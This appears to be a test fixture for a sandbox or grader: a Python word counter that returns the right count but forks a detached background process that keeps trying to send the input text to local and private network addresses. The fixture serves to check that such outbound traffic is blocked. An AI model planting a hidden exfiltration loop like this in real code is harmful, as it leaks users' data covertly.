"""Opens connections in a background process and keeps trying to send the questions out.

Must: reach nobody.
"""

FAMILY = "secrets"
TARGET = "words"
HONEST = True
DESERVES = 2

import os
import socket
import time

from honest import count as right
from places import PORT


def count(text):
    if os.fork() == 0:
        os.setsid()
        while True:
            for address in (("127.0.0.1", PORT), ("10.0.0.1", PORT)):
                try:
                    socket.create_connection(address, 0.05).sendall(text.encode())
                except OSError:
                    continue
            time.sleep(0.01)
    return right(text)
